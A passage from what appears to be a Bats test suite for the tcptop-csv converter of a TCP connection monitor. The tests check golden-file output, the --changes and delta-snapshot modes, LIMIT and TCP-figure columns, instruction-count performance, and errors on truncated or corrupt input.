$lport,$DNS_PORT,2,other,$netns
$lport,$DNS_PORT,$csv,tcptop-csv,4026530000
40000,$DNS_PORT,$csv,tcptop-csv,$netns
40001,$DNS_PORT,3,dig,$netns"
}

@test "output is byte for byte the golden files of the writer before it was made faster, in every mode" {
	local f=$TCPTOP_SRC/tests/fixtures/csv s=$BATS_TEST_TMPDIR/golden.tcpt m name opts
	"$GEN" -o "$s" "$f/golden.txt"
	for m in "csv:" "crlf-excel:--crlf --excel-safe" "jsonl:-f jsonl" \
		"process:--group process" "cgroup:--group cgroup" "cgroup-jsonl:--group cgroup -f jsonl" \
		"figures:--figures" "figures-jsonl:--figures -f jsonl" \
		"figures-process:--figures --group process --crlf --excel-safe"; do
		name=${m%%:*} opts=${m#*:}
		# shellcheck disable=SC2086 # opts are words
		tcptop-csv $opts "$s" >"$BATS_TEST_TMPDIR/out.$name" ||
			fail "tcptop-csv $opts: status $?"
		cmp "$f/golden.$name" "$BATS_TEST_TMPDIR/out.$name" ||
			fail "tcptop-csv $opts differs from golden.$name: $(diff "$f/golden.$name" "$BATS_TEST_TMPDIR/out.$name" | head -5)"
	done
	# a live recording (tests/fixtures/agg/recorded.tcpt) through tcptop-agg, kept as its
	# snapshot stream so that a change of tcptop-agg's does not move it
	tcptop-csv "$f/recorded-snap.tcpt" >"$BATS_TEST_TMPDIR/rec.csv"
	cmp "$f/golden-recorded.csv" "$BATS_TEST_TMPDIR/rec.csv"
	tcptop-csv -f jsonl "$f/recorded-snap.tcpt" >"$BATS_TEST_TMPDIR/rec.jsonl"
	cmp "$f/golden-recorded.jsonl" "$BATS_TEST_TMPDIR/rec.jsonl"
	# the verdicts' fixture (tests/fixtures/agg/limit.txt) through tcptop-agg 50dd774, its
	# default output (delta snapshots) kept: LIMIT and the figures as the collector gives them
	tcptop-csv --figures "$f/limit-snap.tcpt" >"$BATS_TEST_TMPDIR/limit.csv"
	cmp "$f/golden-limit.csv" "$BATS_TEST_TMPDIR/limit.csv"
	tcptop-csv --figures -f jsonl "$f/limit-snap.tcpt" >"$BATS_TEST_TMPDIR/limit.jsonl"
	cmp "$f/golden-limit.jsonl" "$BATS_TEST_TMPDIR/limit.jsonl"
	tcptop-csv --group process "$f/limit-snap.tcpt" >"$BATS_TEST_TMPDIR/limit.process"
	cmp "$f/golden-limit.process" "$BATS_TEST_TMPDIR/limit.process"
}

@test "--changes: only the rows that opened, closed, moved or changed state or owner, from the rows alone" {
	"$GEN" -o "$BATS_TEST_TMPDIR/c.tcpt" "$TCPTOP_SRC/tests/fixtures/csv/changes.txt"
	run -0 bash -c 'tcptop-csv --changes "$1" | cut -d, -f4,7,8,9,10,12,14,21,23,24' bash \
		"$BATS_TEST_TMPDIR/c.tcpt"
	# snapshot 1: the idle flows 1 and 2, first seen, are not written, nor 5, new to the
	# collector but open before it; 3 moved, 4 is new.
	# 2: 2 changed state, 3 moved a packet (rate 0), 4 got established. 3: 1 changed owner,
	# 4 closed; 2 and 3 are as before. 4: in another order, only 3 moved.
	assert_output "local_port,pid,process_name,state,bytes_in,packets_in,rate_in_bytes_sec,closed,new,snapshot_seq
3,10,mover,ESTABLISHED,100,2,50.00,0,0,1
4,11,newbie,SYN_SENT,0,0,0.00,0,1,1
2,10,idle,CLOSE_WAIT,100,2,0.00,0,0,2
3,10,mover,ESTABLISHED,100,3,0.00,0,0,2
4,11,newbie,ESTABLISHED,0,0,0.00,0,0,2
1,12,heir,ESTABLISHED,100,2,0.00,0,0,3
4,11,newbie,CLOSE,5,0,0.00,1,0,3
3,10,mover,ESTABLISHED,100,4,0.00,0,0,4"
	# the rows it writes are the full mode's rows, byte for byte; JSON Lines alike
	tcptop-csv "$BATS_TEST_TMPDIR/c.tcpt" >"$BATS_TEST_TMPDIR/all.csv"
	tcptop-csv --changes "$BATS_TEST_TMPDIR/c.tcpt" >"$BATS_TEST_TMPDIR/ch.csv"
	[ -z "$(grep -vxF -f "$BATS_TEST_TMPDIR/all.csv" "$BATS_TEST_TMPDIR/ch.csv")" ] ||
		fail "a --changes row not in the full output"
	run -0 bash -c 'tcptop-csv -f jsonl --changes "$1" | wc -l' bash "$BATS_TEST_TMPDIR/c.tcpt"
	assert_output 8
	# a second section is other flows: its idle rows are first seen again, not written
	cat "$BATS_TEST_TMPDIR/c.tcpt" "$BATS_TEST_TMPDIR/c.tcpt" >"$BATS_TEST_TMPDIR/cc.tcpt"
	run -0 bash -c 'tcptop-csv --changes "$1" | tail -n +2 | wc -l' bash "$BATS_TEST_TMPDIR/cc.tcpt"
	assert_output 16
	# a group of changed rows would not say what changed: refused
	run -64 tcptop-csv --changes --group process "$BATS_TEST_TMPDIR/c.tcpt"
	assert_output "tcptop-csv: --changes writes connection rows: not with --group"
}

@test "--changes: a connection left out of 150 snapshots (a stream of changes) is still known: its state change is written" {
	local i
	{
		echo "header kind=snapshot real=1700000000 interval=1"
		for i in $(seq 1 152); do
			echo "snap seq=$i time=$((1700000000 + i))"
			# flow 1 in the first snapshot and the last only, CLOSE_WAIT by then
			if [ "$i" = 1 ]; then
				echo "row flow=1 src=10.0.0.1:1 dst=10.0.0.2:80 pid=10 comm=a state=ESTABLISHED in=5 begun"
			elif [ "$i" = 152 ]; then
				echo "row flow=1 src=10.0.0.1:1 dst=10.0.0.2:80 pid=10 comm=a state=CLOSE_WAIT in=5 begun"
			fi
			echo "row flow=2 src=10.0.0.1:2 dst=10.0.0.2:80 pid=10 comm=b state=ESTABLISHED begun"
			echo "snapend"
		done
		echo "end"
	} | "$GEN" >"$BATS_TEST_TMPDIR/gap.tcpt"
	run -0 bash -c 'tcptop-csv --changes "$1" | cut -d, -f4,9,24' bash "$BATS_TEST_TMPDIR/gap.tcpt"
	assert_output "local_port,state,snapshot_seq
1,CLOSE_WAIT,152"
}

@test "--changes on delta snapshots (tcptop-agg's default): the rows it writes on full ones; a LIMIT verdict coming or going counts, a figure only with --figures" {
	local t=$BATS_TEST_TMPDIR o
	"$GEN" -o "$t/cd.trace" "$TCPTOP_SRC/tests/fixtures/csv/changes-delta.txt"
	tcptop-agg "$t/cd.trace" >"$t/delta.tcpt"
	tcptop-agg --full-every 1 "$t/cd.trace" >"$t/full.tcpt"
	# deltas indeed: a row not carried did not change, and is not written
	run -0 bash -c 'tcptop-dump "$0" | grep -c "^delta "' "$t/delta.tcpt"
	assert_output 7
	# flow 2's verdict goes from app back to none in snapshot 3 (its rate is 0 then); 3
	# changes state; 1 and 4 stay idle (4's cwnd is not a column here)
	run -0 bash -c 'tcptop-csv --changes "$0" | cut -d, -f4,9,11,15,24,43,44' "$t/delta.tcpt"
	assert_output "local_port,state,bytes_out,rate_out_bytes_sec,snapshot_seq,limit,limit_pct
2,ESTABLISHED,5100,5000.00,2,app,93
2,ESTABLISHED,5100,0.00,3,,0
3,CLOSE_WAIT,100,0.00,6,,0"
	# with --figures, 4's congestion window changed without a byte in snapshot 7
	run -0 bash -c 'tcptop-csv --changes --figures "$0" | cut -d, -f4,24,48 | tail -n 1' "$t/delta.tcpt"
	assert_output "4,7,20"
	for o in "" "--figures" "--figures -f jsonl"; do
		# shellcheck disable=SC2086 # o is words
		tcptop-csv --changes $o "$t/delta.tcpt" >"$t/d.out"
		# shellcheck disable=SC2086
		tcptop-csv --changes $o "$t/full.tcpt" >"$t/f.out"
		cmp "$t/f.out" "$t/d.out" || fail "--changes $o: deltas and full snapshots differ"
	done
}

# irefs CMD...: the instructions CMD ran in user space (cachegrind's count, without the cache
# simulation): the same on every run, whatever else the machine is doing, where CPU time on two
# shared cores is not
irefs() {
	valgrind --tool=cachegrind --cache-sim=no --cachegrind-out-file=/dev/null "$@" \
		2>&1 >/dev/null | awk '/ I +refs:/ { gsub(",", "", $NF); print $NF; n++ } END { exit n != 1 }'
}

# idle_raw TICKS: a raw stream of 10,000 idle connections and a busy one, TICKS intervals
idle_raw() {
	awk -v ticks="$1" 'BEGIN {
		print "header real=1700000000 mono=0 interval=1"
		for (i = 1; i <= 10000; i++)
			printf "open t=0.1 flow=%d proto=tcp src=127.0.0.1:%d dst=127.0.1.%d:80 pid=9 comm=\"idle\" begun out=7\n", i, 10000 + i, i % 200
		print "open t=0.1 flow=99999 proto=tcp src=10.0.0.1:1 dst=10.0.0.2:80 pid=8 comm=\"busy\" begun"
		for (s = 1; s <= ticks; s++) {
			printf "sample t=%d.5 flow=99999 in=%d\n", s - 1, s * 100
			printf "tick t=%d\n", s
		}
		printf "end t=%d.2\n", ticks
	}' | "$GEN"
}

@test "--changes: a delta costs the rows it carries, not the table's (10,000 idle rows: 399 deltas cost fewer instructions than 10 full snapshots)" {
	local t=$BATS_TEST_TMPDIR one deltas full
	idle_raw 400 | tcptop-agg --full-every 400 >"$t/deltas.tcpt"
	idle_raw 11 | tcptop-agg --full-every 1 >"$t/full11.tcpt"
	idle_raw 1 | tcptop-agg >"$t/one.tcpt"
	run -0 bash -c 'tcptop-dump "$0" | grep -c "^delta "' "$t/deltas.tcpt"
	assert_output 399
	run -0 bash -c 'tcptop-dump "$0" | grep -c "^snap "' "$t/full11.tcpt"
	assert_output 11
	run -0 bash -c 'tcptop-dump "$0" | grep -c "^snap "' "$t/one.tcpt"
	assert_output 1
	# the busy connection's row in every snapshot, and nothing else
	run -0 bash -c 'tcptop-csv --changes "$0" | tail -n +2 | grep -v ",busy," | wc -l' "$t/deltas.tcpt"
	assert_output 0
	run -0 bash -c 'tcptop-csv --changes "$0" | grep -c ",busy,"' "$t/deltas.tcpt"
	assert_output 400
	# each stream begins with the same full snapshot, whose 10,001 new rows are written: that
	# part counted once (one.tcpt) and taken off both
	one=$(irefs tcptop-csv --changes "$t/one.tcpt")
	deltas=$(irefs tcptop-csv --changes "$t/deltas.tcpt")
	full=$(irefs tcptop-csv --changes "$t/full11.tcpt")
	deltas=$((deltas - one)) full=$((full - one))
	echo "instructions: the first snapshot $one, 399 deltas after it $deltas, 10 full snapshots after it $full"
	# a delta that cost the table's rows would take 40 times the 10 full snapshots' count
	[ "$deltas" -gt 0 ] && [ "$full" -gt 0 ] || fail "no count: $one, $deltas, $full"
	[ "$deltas" -lt "$full" ] || fail "399 deltas took $deltas instructions, 10 full snapshots $full"
}

# Three TCP connections with figures and verdicts, a UDP flow, and a TCP one without figures.
limit_script() {
	cat <<'S'
header kind=snapshot
snap seq=1 time=1700000001
row flow=1 src=10.0.0.1:40000 dst=10.0.0.9:5001 pid=10 comm="web" in=1 out=100000 rtt=102000 retrans=2 busy=2000 rwnd=1850 sndbuf=0 rbytes=2896 lost=2 cwnd=14 ssthresh=10 reord=3 inflight=7 unsent=30000 minrtt=100100 rttvar=2500 drate=160000 limit=rwnd limit_pct=95
row flow=2 src=10.0.0.1:40001 dst=10.0.0.9:5002 pid=10 comm="web" out=8000 busy=400 cwnd=10 ssthresh=none reord=3 minrtt=100000 rttvar=500 drate=28000 limit=app limit_pct=80
row flow=3 src=10.0.0.1:40002 dst=10.0.0.9:5003 pid=11 comm="idle" busy=7 cwnd=10 ssthresh=none reord=3 minrtt=4294967295 limit=none
row flow=4 proto=udp src=10.0.0.1:53 dst=10.0.0.9:5353 pid=12 comm="dns" in=10 out=10
row flow=5 src=10.0.0.1:40003 dst=10.0.0.9:5004 pid=13 comm="old" in=5 out=5
row flow=6 src=10.0.0.1:40004 dst=10.0.0.9:5005 pid=14 comm="first" busy=1 cwnd=10 limit=unknown
snapend
end
S
}

@test "limit and limit_pct: each TCP connection's verdict and its share; none is empty text, unknown and UDP no value" {
	limit_script | "$GEN" >"$BATS_TEST_TMPDIR/l.tcpt"
	run -0 python3 -c '
import csv, sys
for r in csv.DictReader(open(sys.argv[1], newline="")):
    print(r["process_name"], repr(r["limit"]), repr(r["limit_pct"]), "cwnd" in r)' \
		<(tcptop-csv "$BATS_TEST_TMPDIR/l.tcpt")
	assert_output "web 'rwnd' '95' False
web 'app' '80' False
idle '' '0' False
dns '' '' False
old '' '' False
first '' '' False"
	run -0 tcptop-csv -f jsonl "$BATS_TEST_TMPDIR/l.tcpt"
	assert_line --index 0 --partial '"limit":"rwnd","limit_pct":95}'
	assert_line --index 2 --partial '"limit":"","limit_pct":0}'
	assert_line --index 3 --partial '"limit":null,"limit_pct":null}'
	assert_line --index 5 --partial '"limit":null,"limit_pct":null}'
	# a process: its worst connection's
	run -0 tcptop-csv --group process "$BATS_TEST_TMPDIR/l.tcpt"
	assert_line --index 1 --regexp ',web,.*,rwnd,95$'
}

@test "--figures: the TCP figures as columns before remote_host, empty for UDP, rows without them and what is unknown" {
	limit_script | "$GEN" >"$BATS_TEST_TMPDIR/l.tcpt"
	run -0 tcptop-csv --figures "$BATS_TEST_TMPDIR/l.tcpt"
	assert_line --index 0 --regexp ",host,$LOSS_MORE,$LIMIT_COLS,$FIGS_COLS\$"
	assert_line --index 1 --regexp ',rwnd,95,2000,1850,0,14,10,7,30000,3,160000,100100,2500,2896,2$'
	assert_line --index 2 --regexp ',app,80,400,0,0,10,,0,0,3,28000,100000,500,0,0$'
	assert_line --index 3 --regexp ',,0,7,0,0,10,,0,0,3,0,,0,0,0$'
	assert_line --index 4 --regexp ',,,,,,,,,,,,,,,$'
	assert_line --index 5 --regexp ',,,,,,,,,,,,,,,$'
	tcptop-csv --figures "$BATS_TEST_TMPDIR/l.tcpt" >"$BATS_TEST_TMPDIR/l.csv"
	both_parsers "$BATS_TEST_TMPDIR/l.csv"
	run -0 tcptop-csv --figures -f jsonl "$BATS_TEST_TMPDIR/l.tcpt"
	assert_line --index 0 --partial '"limit":"rwnd","limit_pct":95,"busy_ms":2000,"rwnd_limited_ms":1850,"sndbuf_limited_ms":0,"cwnd":14,"ssthresh":10,"in_flight":7,"unsent_bytes":30000,"reordering":3,"delivery_rate_bytes_sec":160000,"min_rtt_us":100100,"rttvar_us":2500,"retrans_bytes":2896,"lost":2}'
	assert_line --index 3 --partial '"limit":null,"limit_pct":null,"busy_ms":null,'
	# the collector could not know HZ: the clocks and LIMIT are empty, the rest stays
	limit_script | sed 's/^header kind=snapshot$/header kind=snapshot missing="tcp-limits"/' |
		"$GEN" >"$BATS_TEST_TMPDIR/m.tcpt"
	run -0 tcptop-csv --figures "$BATS_TEST_TMPDIR/m.tcpt"
	assert_line --index 1 --regexp ',,,,,,14,10,7,30000,3,160000,100100,2500,2896,2$'
	limit_script | sed 's/^header kind=snapshot$/header kind=snapshot missing="tcp-figures"/' |
		"$GEN" >"$BATS_TEST_TMPDIR/n.tcpt"
	run -0 tcptop-csv --figures "$BATS_TEST_TMPDIR/n.tcpt"
	assert_line --index 1 --regexp ',,,,,,,,,,,,,,,$'
	# every column is documented and named in --help
	run -0 tcptop-csv --help
	assert_output --partial "rttvar_us"
	local col page
	page=$(MANWIDTH=200 mandoc -Tascii "$TCPTOP_SRC/man/tcptop-csv.1" | col -bx)
	for col in limit limit_pct $(tr ',' ' ' <<<"$FIGS_COLS"); do
		grep -qE "^ +.*\b$col\b" <<<"$page" || fail "column $col is not in tcptop-csv(1)"
	done
}

# deltas_of FIXTURE N: tcptop-agg's output for an agg fixture, as $T/full.tcps (full snapshots
# only) and $T/delta.tcps (a full snapshot every N, deltas between)
deltas_of() {
	"$GEN" -o "$BATS_TEST_TMPDIR/raw.tcpt" "$BATS_TEST_DIRNAME/fixtures/agg/$1.txt"
	tcptop-agg --full-every 1 "$BATS_TEST_TMPDIR/raw.tcpt" >"$BATS_TEST_TMPDIR/full.tcps"
	tcptop-agg --full-every "$2" "$BATS_TEST_TMPDIR/raw.tcpt" >"$BATS_TEST_TMPDIR/delta.tcps"
}

# offset_of PATTERN FILE: the byte offset of the first record whose tcptop-dump line matches
offset_of() {
	tcptop-dump -O "$2" | grep -m1 -- "$1" | sed 's/^@\([0-9]*\) .*/\1/'
}

@test "delta snapshots: the same CSV and JSON Lines, byte for byte, as full snapshots, for every agg fixture" {
	local n=0 f name opts
	for f in "$BATS_TEST_DIRNAME"/fixtures/agg/*.txt; do
		name=$(basename "$f" .txt)
		if [ "$name" = recorded ]; then # a recording of the collector: its script describes it
			cp "${f%.txt}.tcpt" "$BATS_TEST_TMPDIR/raw.tcpt"
		else
			"$GEN" -o "$BATS_TEST_TMPDIR/raw.tcpt" "$f"
		fi
		for opts in "" "--interval 0.5 --port 443" "--interval 3"; do
			# shellcheck disable=SC2086
			tcptop-agg --full-every 1 $opts "$BATS_TEST_TMPDIR/raw.tcpt" >"$BATS_TEST_TMPDIR/full.tcps"
			# shellcheck disable=SC2086
			tcptop-agg $opts "$BATS_TEST_TMPDIR/raw.tcpt" >"$BATS_TEST_TMPDIR/delta.tcps"
			if tcptop-dump "$BATS_TEST_TMPDIR/delta.tcps" | grep -q '^delta '; then
				n=$((n + 1))
			fi
			for fmt in "" "-f jsonl" "--group process"; do
				# shellcheck disable=SC2086
				tcptop-csv $fmt "$BATS_TEST_TMPDIR/full.tcps" >"$BATS_TEST_TMPDIR/full.csv"
				# shellcheck disable=SC2086
				run -0 --separate-stderr tcptop-csv $fmt "$BATS_TEST_TMPDIR/delta.tcps"
				assert_equal "$stderr" ""
				assert_equal "$output" "$(cat "$BATS_TEST_TMPDIR/full.csv")"
			done
		done
	done
	# the comparison is about deltas: most outputs have some
	[ "$n" -ge 20 ] || fail "only $n outputs with delta snapshots"
}

@test "a late start (the stream from a delta on, after its header): nothing before the next full snapshot, then every row; the skipped deltas counted" {
	deltas_of multiple 3
	local d2 full hdr
	hdr=$(tcptop-dump -O "$BATS_TEST_TMPDIR/delta.tcps" | sed -n '2s/^@\([0-9]*\) .*/\1/p')
	d2=$(tcptop-dump -O "$BATS_TEST_TMPDIR/delta.tcps" | grep '^@[0-9]* delta seq=' | sed -n '2s/^@\([0-9]*\) .*/\1/p')
	full=$(tcptop-dump -O "$BATS_TEST_TMPDIR/delta.tcps" | grep '^@[0-9]* snap seq=' | sed -n '2s/^@\([0-9]*\) .*/\1/p')
	[ -n "$d2" ] && [ -n "$full" ] && [ "$d2" -lt "$full" ]
	# a reader that joins at a delta, and one that joins at the next full snapshot
	{ head -c "$hdr" "$BATS_TEST_TMPDIR/delta.tcps"; tail -c +$((d2 + 1)) "$BATS_TEST_TMPDIR/delta.tcps"; } \
		>"$BATS_TEST_TMPDIR/late.tcps"
	{ head -c "$hdr" "$BATS_TEST_TMPDIR/delta.tcps"; tail -c +$((full + 1)) "$BATS_TEST_TMPDIR/delta.tcps"; } \
		>"$BATS_TEST_TMPDIR/atfull.tcps"
	tcptop-csv "$BATS_TEST_TMPDIR/atfull.tcps" >"$BATS_TEST_TMPDIR/atfull.csv"
	[ "$(wc -l <"$BATS_TEST_TMPDIR/atfull.csv")" -ge 3 ]
	run -0 --separate-stderr tcptop-csv "$BATS_TEST_TMPDIR/late.tcps"
	assert_equal "$output" "$(cat "$BATS_TEST_TMPDIR/atfull.csv")"
	assert_equal "$stderr" "tcptop-csv: $BATS_TEST_TMPDIR/late.tcps: 1 delta snapshots skipped: no full snapshot of their section before them (a late start) or a table out of step"
	# and what it writes from there is what a reader from the start writes for those snapshots
	tcptop-csv "$BATS_TEST_TMPDIR/full.tcps" | tail -n "$(($(wc -l <"$BATS_TEST_TMPDIR/atfull.csv") - 1))" |
		cmp - <(tail -n +2 "$BATS_TEST_TMPDIR/atfull.csv")
}

@test "a delta snapshot out of step: said once with its byte, the deltas after it skipped, the next full snapshot read, 65" {
	{
		echo 'header kind=snapshot interval=1 host="h"'
		echo 'snap seq=1 time=1700000001 mono=1'
		echo 'row flow=1 proto=tcp src=10.0.0.1:5000 dst=10.0.0.2:80 pid=1 comm=a in=10 rate_in=10 new'
		echo 'row flow=2 proto=tcp src=10.0.0.1:5001 dst=10.0.0.2:80 pid=2 comm=b closed new'
		echo 'snapend'
		echo 'delta seq=2 time=1700000002 mono=2 table=1'
		echo 'row flow=1 proto=tcp src=10.0.0.1:5000 dst=10.0.0.2:80 pid=1 comm=a in=30 rate_in=20'
		echo 'deltaend'
		# a lost DELTA_ROW: the table has 1 row, the writer's 2
		echo 'delta seq=3 time=1700000003 mono=3 table=2'
		echo 'deltaend'
		echo 'delta seq=4 time=1700000004 mono=4 table=2'
		echo 'row flow=3 proto=tcp src=10.0.0.1:5003 dst=10.0.0.2:80 pid=3 comm=c new'
		echo 'deltaend'
		echo 'snap seq=5 time=1700000005 mono=5'
		echo 'row flow=1 proto=tcp src=10.0.0.1:5000 dst=10.0.0.2:80 pid=1 comm=a in=30'
		echo 'snapend'
		echo 'delta seq=6 time=1700000006 mono=6 table=1'
		echo 'deltaend'
		echo 'end t=6'
	} | "$GEN" >"$BATS_TEST_TMPDIR/s.tcps"
	local end3
	end3=$(offset_of '^@[0-9]* deltaend seq=3' "$BATS_TEST_TMPDIR/s.tcps")
	run -65 --separate-stderr tcptop-csv "$BATS_TEST_TMPDIR/s.tcps"
	assert_equal "$stderr" "tcptop-csv: $BATS_TEST_TMPDIR/s.tcps: delta snapshot 3 ends at byte $end3 with 1 rows, its DELTA_BEGIN says 2: out of step, deltas skipped until the next full snapshot
tcptop-csv: $BATS_TEST_TMPDIR/s.tcps: 1 delta snapshots skipped: no full snapshot of their section before them (a late start) or a table out of step"
	# snapshots 1, 2 (the closed row gone, the other carried), 5 and 6 (the row not carried: rate 0)
	run -0 bash -c 'cut -d, -f 4,10,14,24 <<<"$0"' "$output"
	assert_output "local_port,bytes_in,rate_in_bytes_sec,snapshot_seq
5000,10,10.00,1
5001,0,0.00,1
5000,30,20.00,2
5000,30,0.00,5
5000,30,0.00,6"
}

@test "a delta stream cut or corrupt: 65 with the byte offset, every complete snapshot written" {
	deltas_of basic 60
	tcptop-csv "$BATS_TEST_TMPDIR/delta.tcps" >"$BATS_TEST_TMPDIR/good.csv"
	local d off
	d=$(offset_of '^@[0-9]* delta seq=3' "$BATS_TEST_TMPDIR/delta.tcps")
	off=$(offset_of '^@[0-9]* drow ' "$BATS_TEST_TMPDIR/delta.tcps")
	[ -n "$d" ] && [ -n "$off" ]
	# cut inside the first DELTA_ROW: snapshot 1 written, the delta left out
	head -c $((off + 30)) "$BATS_TEST_TMPDIR/delta.tcps" >"$BATS_TEST_TMPDIR/cut.tcps"
	run -65 --separate-stderr tcptop-csv -o "$BATS_TEST_TMPDIR/cut.csv" "$BATS_TEST_TMPDIR/cut.tcps"
	assert_equal "$stderr" "tcptop-csv: $BATS_TEST_TMPDIR/cut.tcps: the input ended inside delta snapshot 2: it is left out
tcptop-csv: $BATS_TEST_TMPDIR/cut.tcps: truncated DELTA_ROW record at byte $off: input ends after 30 of 200 bytes"
	head -n 3 "$BATS_TEST_TMPDIR/good.csv" | cmp - "$BATS_TEST_TMPDIR/cut.csv"
	# a DELTA_BEGIN whose trailer lies: snapshots 1 and 2 written
	{ head -c $((d + 4)) "$BATS_TEST_TMPDIR/delta.tcps"; printf '\377\377\0\0'; tail -c +$((d + 9)) "$BATS_TEST_TMPDIR/delta.tcps"; } \
		>"$BATS_TEST_TMPDIR/bad.tcps"
	run -65 --separate-stderr tcptop-csv -o "$BATS_TEST_TMPDIR/bad.csv" "$BATS_TEST_TMPDIR/bad.tcps"
	assert_output ""
	assert_equal "$stderr" "tcptop-csv: $BATS_TEST_TMPDIR/bad.tcps: record length 65535 at byte $d not a multiple of 8"
	head -n 5 "$BATS_TEST_TMPDIR/good.csv" | cmp - "$BATS_TEST_TMPDIR/bad.csv"
}
